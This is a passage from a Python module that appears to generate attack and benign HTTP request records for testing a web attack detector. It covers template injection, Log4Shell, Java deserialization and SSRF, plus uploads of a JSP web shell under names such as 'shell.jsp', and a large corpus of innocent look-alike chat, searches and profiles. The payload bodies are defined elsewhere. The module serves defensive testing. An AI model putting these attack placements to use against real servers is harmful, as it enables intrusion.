    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIAL),
    ("java", "java-deserialization-gadgets", JAVA_GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION_LANGUAGE),
    ("java", "java-polymorphic-binding", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
LATIN1_SUBS = {"java-serialization"}   # raw streams: their bytes go percent-encoded as latin-1

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "name", "bio", "template", "avatar_url", "webhook", "filter", "note", "display_name"]
    boundary = "----WebKitFormBoundaryq2Vb7HkZ0pLx4Rt1"
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"   # `name=value` binding sent as typed (already-encoded parts stay as they are)
    upload = JSP_SHELL
    form_accept = "*/*"
    documents = True

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub in LATIN1_SUBS

    def _p_raw_query(self, p: Put) -> Record:
        return _get("/api/users?" + self._raw(p))

    def _p_raw_form(self, p: Put) -> Record:
        return self._p_form(p._replace(raw=True))

    def _p_json(self, p: Put) -> Record:
        return _json("/api/users", {"email": "ann@example.org", p.name: p.v})

    def _p_json_body(self, p: Put) -> Record:
        return request("POST", "/api/users", p.v, "application/json")

    def _p_multipart_content(self, p: Put) -> Record:
        body = self.multipart([("csrf_token", "t0k3n", None), ("file", p.v, "avatar.jsp")])
        return request("POST", "/admin/users/import", body, self.multipart_type)

    def _p_rs_raw_query(self, p: Put) -> Record:
        return request("GET", p.path + "?" + self._raw(p))

    def _p_rs_multipart_content(self, p: Put) -> Record:
        target = self.rs_upload if p.path in ("/", "/get", "/search") else p.path
        return request("POST", target, self.multipart([("file", p.v, "shell.jsp")]), self.multipart_type)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same products, keywords and syntax typed innocently (support chat, release notes, searches, links to
# advisories and docs, profiles, upload names, ordinary client headers)
CHAT = [
    "we bumped log4j-core to 2.17.1 everywhere, the Log4Shell ticket can be closed",
    "did anyone check whether the billing service still pulls in log4j 1.x? the scanner flags it",
    "the Jinja2 email template renders `{{ user.first_name }}` as blank for SSO accounts, looking into it",
    "reminder: in Twig it's `{{ product.price|number_format(2) }}`, not the PHP function",
    "FreeMarker keeps complaining about `${order.total}` being null, wrap it as `${order.total!0}`",
    "Velocity macros in the Jira plugin are so old, `#set($count = 0)` everywhere",
    "Thymeleaf: use th:text=\"${user.name}\" instead of th:utext unless you really need HTML",
    "ERB partial is `<%= render 'shared/footer' %>`, the layout just yields",
    "we're moving the marketing pages from Smarty to Twig next quarter",
    "handlebars helper `{{#each items}}{{this.title}}{{/each}}` works in the preview but not in the build",
    "pug indentation bit me again, the `each item in items` block was one space off",
    "Mako is still used in the old Pylons admin, nobody wants to touch it",
    "Tornado's `{% for row in rows %}` needs `{% end %}`, not endfor, took me 20 minutes",
    "Nunjucks in Eleventy: `{{ page.url | url }}` fixes the broken links on the staging site",
    "EJS `<%- include('header') %>` vs `<%= %>`, the dash one doesn't escape, careful",
    "Pebble templates in the Spring Boot service load from classpath:/templates",
    "the Razor view uses `@Model.CustomerName` and it's null after the DTO refactor",
    "Go html/template auto-escapes, so `{{ .Title }}` is safe in the page header",
    "Shopify theme: `{{ product.title | escape }}` in the Liquid section, then reload",
    "Jekyll build fails on `{% include footer.html %}` because the file moved to _includes/partials",
    "node 20 upgrade done, `require('child_process')` warnings in the build script are from an old dependency",
    "the export worker uses child_process.spawn to call pdftotext, it times out on huge files",
    "we removed the eval() from the rules editor, it now uses a tiny expression parser",
    "the vm module is not a security boundary, the Node docs say it plainly",
    "regex in the email validator was catastrophic on long inputs, switched to a linear one",
    "the CI box ran out of heap on `npm test`, bumped --max-old-space-size to 4096",
    "SSRF review: the avatar fetcher now refuses private ranges and link-local addresses",
    "our EC2 instances use IMDSv2 only now, the old 169.254.169.254 calls without a token fail",
    "GCP metadata server needs the Metadata-Flavor: Google header, that's why curl returned 403",
    "Azure managed identity token comes from the instance metadata endpoint, api-version 2018-02-01",
    "DigitalOcean droplet metadata has the user-data we passed at creation, handy for bootstrapping",
    "dev stack listens on 127.0.0.1:8080 and the admin on localhost:9000",
    "the redis in docker compose is on 6379, memcached on 11211, both internal only",
    "prototype pollution fix: we now create objects with Object.create(null) in the merge helper",
    "lodash upgraded to 4.17.21 because of the __proto__ advisory in the audit",
    "Ruby 3.3 upgrade: YAML.load now refuses arbitrary classes, use YAML.safe_load with permitted_classes",
    "the rake task calls system('pg_dump ...') for backups, we should switch to Open3",
    "Perl CGI scripts in the legacy HR tool still use two-arg open, on the list for the rewrite",
    "mod_perl is finally gone from the intranet server",
    "the PHP app stores avatars as data: URIs in the profile table, that's why the rows are huge",
    "Runtime.getRuntime().exec is used by the old thumbnailer, the new one uses ProcessBuilder",
    "ProcessBuilder with inheritIO is nice for debugging the converter locally",
    "ClassLoader leak after redeploy again, Tomcat warns about a thread started by the JDBC driver",
    "ScriptEngineManager returns null for \"nashorn\" on Java 17, it was removed",
    "Jackson polymorphic typing is off in our mapper, we use @JsonTypeInfo with a fixed list of subtypes",
    "fastjson got replaced by Jackson in the gateway service last sprint",
    "XStream upgraded to 1.4.20 and we set up the allow list of types",
    "Java serialization for the session cache is gone, sessions are JSON now",
    "Spring Boot 3.2 release notes mention SpEL evaluation limits, worth a read",
    "OGNL is only in the ancient Struts app, which is scheduled for shutdown",
    "the EL expression `#{bean.total}` in the JSF page shows 0 after the last deploy",
    "upload filter: we only accept png, jpg and pdf now, jsp and war are rejected",
    "does anyone know why the Groovy script console is enabled on the staging Jenkins?",
    "the Jenkinsfile runs `sh 'make test'` and then archives the reports",
    "gopher:// still shows up in the curl protocols list, we disabled it in the fetcher",
    "file:// links in the knowledge base don't open in Chrome, that's expected",
    "ldap lookups go to ldap://ldap.corp.example:389 for the staff directory",
    "the ops wiki has the list of private ranges: 10.0.0.0/8, 172.16.0.0/12 and 192.168.0.0/16",
    "customer asks if we're affected by CVE-2021-44228, we answer no, we run 2.17.1 and no JNDI lookups",
    "support: user's display name shows `{{name}}` literally in the welcome mail, template variable missing",
    "the newsletter tool uses Liquid, `{{ subscriber.first_name | default: 'there' }}` for the greeting",
    "can someone review my PR? it replaces YAML.load with Psych.safe_load in the importer",
    "Perl one-liner to count lines per user: perl -ne 'print if /ERROR/' app.log | sort | uniq -c",
    "the smoke test runs `node -e \"console.log(process.version)\"` first",
    "report job crashed on a 2 GB CSV, Buffer.alloc failed, now we stream it",
    "while(true) loop in the retry code was the reason the worker pinned a CPU",
    "we keep webhook URLs in the settings table and validate the host on save",
    "the PDF renderer fetches images from our CDN only, remote URLs are blocked",
    "template preview in the admin shows the raw `{% if %}` tags when the syntax is wrong",
]
SEARCHES = [
    "log4j", "log4shell", "jinja2 template", "twig filters", "freemarker", "velocity macro", "thymeleaf",
    "erb partial", "smarty", "handlebars helpers", "pug mixin", "mako", "tornado", "nunjucks", "ejs include",
    "pebble", "razor pages", "go templates", "liquid tags", "node child process", "prototype pollution",
    "ssrf", "instance metadata", "169.254.169.254", "localhost", "ruby yaml", "perl open", "data uri",
    "java runtime exec", "processbuilder", "classloader", "serialization", "jackson", "fastjson", "xstream",
    "spring expression", "ognl", "jsp upload", "jenkins groovy", "José Müller",
]
URLS = [
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://ruby-doc.org/3.3/stdlibs/erb/ERB.html",
    "https://www.smarty.net/docs/en/language.function.include.tpl",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://pugjs.org/language/interpolation.html",
    "https://docs.makotemplates.org/en/latest/syntax.html",
    "https://www.tornadoweb.org/en/stable/template.html",
    "https://mozilla.github.io/nunjucks/templating.html",
    "https://ejs.co/#docs",
    "https://pebbletemplates.io/wiki/guide/basic-usage/",
    "https://learn.microsoft.com/en-us/aspnet/core/mvc/views/razor",
    "https://pkg.go.dev/text/template",
    "https://shopify.github.io/liquid/tags/iteration/",
    "https://nodejs.org/api/child_process.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://github.com/FasterXML/jackson-docs/wiki/JacksonPolymorphicDeserialization",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
]
PROSE = [
    "Release notes 4.2: upgraded log4j to 2.17.1, removed the JNDI lookup plugin from the image",
    "Incident review: the metadata endpoint was reachable from the avatar fetcher; fixed by an allow list",
    "Support ticket 8812: customer template shows {{ order.number }} literally in the confirmation email",
    "Migration plan: Smarty templates to Twig, keeping the same block names",
    "How to use Jinja2 loops: {% for item in cart %}{{ item.name }}{% endfor %}",
    "FreeMarker default values: ${user.nickname!\"guest\"}",
    "Velocity quick reference: #if($user.isAdmin) ... #end",
    "Thymeleaf fragments: th:replace=\"~{fragments/header :: header}\"",
    "Handlebars partial: {{> userCard user}}",
    "EJS layout: <%- body %> inside the main layout file",
    "ERB comment tags: <%# this is a comment %>",
    "Razor syntax: @if (Model.IsAdmin) { <p>Admin</p> }",
    "Go template: {{ range .Items }}{{ .Name }}{{ end }}",
    "Liquid filter: {{ 'now' | date: '%Y-%m-%d' }}",
    "Node.js upgrade checklist: child_process usage, vm usage, Buffer() constructor removal",
    "Security training: prototype pollution, SSRF, template injection and deserialization basics",
    "Ruby style: prefer Open3.capture3 over backticks for external commands",
    "Perl modernisation: three-argument open and lexical file handles",
    "Java 21 migration: ScriptEngineManager no longer ships Nashorn, use GraalJS if needed",
    "Spring Boot actuator endpoints exposed on the management port only (127.0.0.1:8081)",
    "Audit finding: Jackson default typing enabled in the reporting service, disable it",
    "Audit finding: XStream without type allow list in the import job",
    "Tomcat hardening: remove the manager app and disable JSP compilation in the uploads folder",
    "Jenkins hardening: script console restricted to administrators, Groovy sandbox enabled",
    "PHP wrapper checklist: allow_url_include off, data: and php:// not accepted in include paths",
    "Class loading issue after hot redeploy: the old web app class loader is still referenced",
    "Serialization format change: session cache uses JSON, not Java serialization",
    "DoS review: catastrophic backtracking in the phone number regex, fixed with a possessive pattern",
    "Cloud checklist: IMDSv2 required, hop limit 1, metadata access blocked from containers",
    "Pug mixins for the admin cards: +card(title, body)",
    "Mako inheritance: <%inherit file=\"base.mako\"/>",
    "Tornado autoescape is on by default; use {% raw %} only for trusted HTML",
    "Nunjucks filters: {{ posts | length }} posts this month",
    "Pebble extension for currency formatting added to the invoice templates",
    "OGNL expressions are only evaluated in the legacy Struts app; new code uses Spring MVC",
]
PROFILES = [
    ("Jinja Okafor", "Harbour Road 3, Lagos"),
    ("Twiggy Stone", "Mill Lane 8, Leeds"),
    ("Velocity Cycling Club", "Track Street 2, Ghent"),
    ("Thyme & Leaf Bistro", "Rue du Marché 14, Lyon"),
    ("Ruby Perl", "Gem Street 5, Antwerp"),
    ("Smarty Pants Tutoring", "School Lane 9, Dublin"),
    ("Pug Rescue Network", "Kennel Way 4, Bristol"),
    ("Mako Shark Diving", "Reef Road 12, Cairns"),
    ("Tornado Alley Storm Chasers", "Plains Ave 7, Norman OK"),
    ("Liquid Assets Bar", "Canal Street 21, Amsterdam"),
    ("Java Junction Café", "Bean Street 11, Portland"),
    ("Spring Meadow Farm", "Hill Road 6, Devon"),
    ("Node Hill Bakery", "Ridge Way 3, Bath"),
    ("Jackson Fast", "Oak Street 19, Austin"),
    ("Razor Sharp Barbers", "High Street 45, Glasgow"),
    ("Go Templates Studio", "Design Quarter 2, Berlin"),
    ("Pebble Beach Rentals", "Shore Drive 1, Brighton"),
    ("Ember & Ejs Pottery", "Kiln Lane 5, Stoke"),
    ("Metadata Consulting", "Tower 2, Level 9, Sydney"),
    ("Serial Entrepreneurs Club", "Startup Row 8, Tallinn"),
]
UPLOAD_NAMES = [
    "log4j-upgrade-plan.pdf", "jinja2-email-templates.zip", "twig-migration.xlsx", "freemarker-cheatsheet.pdf",
    "thymeleaf-layouts.docx", "handlebars-helpers.md", "ruby-3.3-notes.txt", "perl-cgi-inventory.csv",
    "ssrf-review-2024.pdf", "imds-v2-rollout.pptx", "java-serialization-removal.pdf", "jackson-config.txt",
    "spring-boot-3-upgrade.pdf", "tomcat-hardening.docx", "jenkins-groovy-sandbox.pdf", "node-20-upgrade.md",
    "prototype-pollution-training.pdf", "template-engines-comparison.xlsx", "team photo.jpg", "avatar.png",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "node-fetch"),
    ("User-Agent", "undici"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "Java-http-client/21.0.3"),
    ("User-Agent", "Ruby/3.3.1"),
    ("User-Agent", "rest-client/2.1.0 (linux x86_64) ruby/3.2.2p53"),
    ("User-Agent", "HTTP-Tiny/0.088"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "Jenkins/2.452.2"),
    ("Referer", "https://logging.apache.org/log4j/2.x/manual/lookups.html"),
    ("Referer", "https://www.google.com/search?q=thymeleaf+th%3Aeach+example"),
    ("Referer", "https://app.example.com/admin/templates/welcome-email/edit"),
    ("Referer", "https://github.com/acme/web/pull/412/files"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "b7e2c1d4-3f9a-4c2e-8d61-0a9f4e2b7c53"),
    ("Accept-Language", "de-DE,de;q=0.9,en-US;q=0.8"),
    ("Cookie", "session=abc123; template_editor=split; theme=light"),
    ("Cookie", "session=abc123; recent=jinja2%2Ctwig%2Cliquid"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
